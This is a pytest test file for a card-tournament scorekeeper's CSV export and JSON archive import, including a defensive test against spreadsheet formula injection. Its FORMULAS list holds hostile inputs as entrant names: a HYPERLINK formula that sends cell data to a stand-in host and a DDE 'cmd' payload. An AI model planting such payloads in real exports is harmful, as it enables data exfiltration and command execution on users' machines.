"""A tournament taken away and brought back: the standings and every result as CSV that a
spreadsheet (here Python's csv module) reads, and the whole evening as one JSON archive that a
second server imports to the same standings; a broken archive is refused and stores nothing."""

from __future__ import annotations

import csv
import io
import json

import pytest

from test_tournament_evening import Evening

API = "/api/v1/tournaments"
NAMES = [("Jurić & Željko", ["Ivan Jurić", "Željko Šimić"]), ("Đuro & Tonći", ["Đuro Čolić", "Tonći Ćurić"]),
         ("Ana & Cvita", ["Ana", "Cvita"]), ("Mia & Tin", ["Mia", "Tin"]), ("Ema & Dora", ["Ema", "Dora"])]


@pytest.fixture
def played(client):
    """Two rounds of a five-pair swiss (a bye each round), one table's result entered on paper."""
    ev = Evening(client, {"title": "Petak", "variant": "bela-hr-4", "format": "swiss", "rounds": 3,
                          "match": {"best_of": 1}, "seed": 5, "options": {"target": 301},
                          "entrants": [{"name": n, "players": p} for n, p in NAMES]})
    ev.draw()
    first = ev.get(director=True)["rounds"][0]["tables"][0]
    answer = client.post(f"{ev.url}/rounds/1/tables/{first['table']}/result", json={"games": [[302, 120]]},
                         headers=ev.director)
    assert answer.status_code == 200, answer.get_json()
    ev.play_round()
    ev.draw()
    ev.play_round()
    return ev


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    raw = response.data
    assert raw.startswith(b"\xef\xbb\xbf"), "a byte-order mark, so a spreadsheet reads UTF-8"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_the_standings_and_every_result_open_as_csv(client, played):
    page = played.url.replace("/api/v1", "")
    standings = rows_of(client.get(f"{page}/standings.csv"))
    assert standings[0][:4] == ["Rank", "No.", "Name", "Players"]
    api_rows = played.standings()["rows"]
    assert [(int(r[0]), r[2], int(r[8]), int(r[11])) for r in standings[1:]] == [
        (r["rank"], r["name"], r["match_points"], r["difference"]) for r in api_rows]
    assert any(r[3] == "Ivan Jurić & Željko Šimić" for r in standings[1:])

    results = rows_of(client.get(f"{page}/results.csv"))
    assert results[0][:4] == ["Round", "Table", "First", "Second"]
    body = results[1:]
    assert len([r for r in body if r[9] == "Bye"]) == 2
    matches = [r for r in body if r[9] != "Bye"]
    assert len(matches) == 4 and all(r[8] for r in matches)
    assert any(r[4] == "302-120" for r in matches)

    croatian = rows_of(client.get(f"{page}/standings.csv", headers={"Accept-Language": "hr"}))
    assert croatian[0][2] != "Name" and len(croatian) == len(standings)


def test_an_archive_imported_elsewhere_has_the_same_standings(client, played, app, tmp_path):
    archive = client.get(f"{played.url}/archive", headers=played.director)
    assert archive.status_code == 200
    data = archive.get_json()
    assert data["kind"] == "scorekeeper-tournament" and len(data["games"]) >= 4
    assert "director_code" not in json.dumps(data) and played.code not in json.dumps(data)
    assert client.get(f"{played.url}/archive").status_code == 401

    from scorekeeper import create_app
    other = create_app({"TESTING": True, "DATABASE": str(tmp_path / "other.db"), "SECRET_KEY": "other",
                        "WTF_CSRF_ENABLED": False, "RATE_LIMITS": False}).test_client()
    answer = other.post("/api/v1/tournament-imports", json=data)
    assert answer.status_code == 201, answer.get_json()
    imported = answer.get_json()
    again = other.get(f"{API}/{imported['id']}/standings").get_json()
    assert again == played.standings()
    state = other.get(f"{API}/{imported['id']}", headers={"X-Director-Code": imported["director_code"]}).get_json()
    assert [len(r["tables"]) for r in state["rounds"]] == [2, 2]
    assert state["status"] == "between_rounds"
    # Its games are its own: new ids that open on the second server.
    game = state["rounds"][0]["tables"][1]["games"][0]
    assert game not in json.dumps(data) and other.get(f"/api/v1/games/{game}").status_code == 200


def test_a_broken_archive_is_refused_and_stores_nothing(client, played, tmp_path):
    data = client.get(f"{played.url}/archive", headers=played.director).get_json()
    broken = {**data, "games": data["games"][1:]}
    answer = client.post("/api/v1/tournament-imports", json=broken)
    assert answer.status_code == 422
    assert "does not hold" in answer.get_json()["error"]["message"]
    hand_broken = json.loads(json.dumps(data))
    game = next(g for g in hand_broken["games"] if g["entries"])
    game["entries"][0]["hand"]["points"] = [400, 400]
    answer = client.post("/api/v1/tournament-imports", json=hand_broken)
    assert answer.status_code == 422 and answer.get_json()["error"]["path"].startswith("games[")
    assert client.post("/api/v1/tournament-imports", json={"kind": "something else"}).status_code == 422


def test_the_director_imports_an_archive_from_the_page(client, played):
    page = played.url.replace("/api/v1", "")
    with client.session_transaction() as session:
        session["directing"] = [played.id]
    saved = client.get(f"{page}/archive.json")
    assert saved.status_code == 200
    answer = client.post("/tournaments/import", data={"archive": (io.BytesIO(saved.data), "archive.json")},
                         content_type="multipart/form-data")
    assert answer.status_code == 302
    dashboard = client.get(answer.headers["Location"])
    assert "Jurić &amp; Željko" in dashboard.get_data(as_text=True)
    refused = client.post("/tournaments/import", data={"archive": (io.BytesIO(b"not json"), "x.json")},
                          content_type="multipart/form-data")
    assert refused.status_code == 422 and "archive" in refused.get_data(as_text=True)


def test_an_earlier_round_stays_reachable_with_its_results_and_sheets(client, played):
    page = played.url.replace("/api/v1", "")
    with client.session_transaction() as session:
        session["directing"] = [played.id]
    dashboard = client.get(page).get_data(as_text=True)
    assert f'href="{page}/rounds/1"' in dashboard and "Earlier rounds" in dashboard
    round_one = client.get(f"{page}/rounds/1")
    assert round_one.status_code == 200
    html = round_one.get_data(as_text=True)
    assert html.count('class="tablecard') == 2 and "302–120" in html
    assert "entered on paper by the director" in html and "played at the table" in html
    for sheet in ("draw.pdf", "where.pdf", "cards.pdf", "sheets.pdf", "pack.pdf"):
        assert f"{page}/rounds/1/{sheet}" in html
    assert f"{page}/standings.pdf?after=1" in html
    assert client.get(f"{page}/rounds/9").status_code == 404


FORMULAS = [("=HYPERLINK(\"http://x.example/?\"&A1,\"Prizes\")", ["=1+1", "Ana"]),
            ("+cmd|' /C calc'!A0", ["@SUM(A1:A9)", "Ivo"]), ("-2+3", ["\tTab", "\rReturn"]),
            ("Mia & Tin", ["Mia", "Tin"])]


def test_a_name_written_as_a_formula_opens_as_text_in_a_spreadsheet(client):
    """A name that a spreadsheet would run (= + - @, a tab or a carriage return first) is written
    with a leading apostrophe, which the spreadsheet hides: the name reads as typed, runs nothing;
    figures (a negative difference) stay numbers."""
    ev = Evening(client, {"title": "Petak", "variant": "bela-hr-4", "format": "swiss", "rounds": 2,
                          "seed": 5, "options": {"target": 301},
                          "entrants": [{"name": n, "players": p} for n, p in FORMULAS]})
    ev.draw()
    ev.play_round()
    page = ev.url.replace("/api/v1", "")
    standings = rows_of(client.get(f"{page}/standings.csv"))
    results = rows_of(client.get(f"{page}/results.csv"))
    cells = [c for row in standings[1:] + results[1:] for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").isdigit()]
    names = {r[2] for r in standings[1:]}
    assert names == {"'" + n for n, _ in FORMULAS[:3]} | {"Mia & Tin"}
    assert "'=1+1 & Ana" in {r[3] for r in standings[1:]}
    assert "'\tTab & \rReturn" in {r[3] for r in standings[1:]}
    differences = [int(r[11]) for r in standings[1:]]
    assert min(differences) < 0, "a negative difference is still a number"
    assert {r[2] for r in results[1:]} | {r[3] for r in results[1:]} <= names | {""}
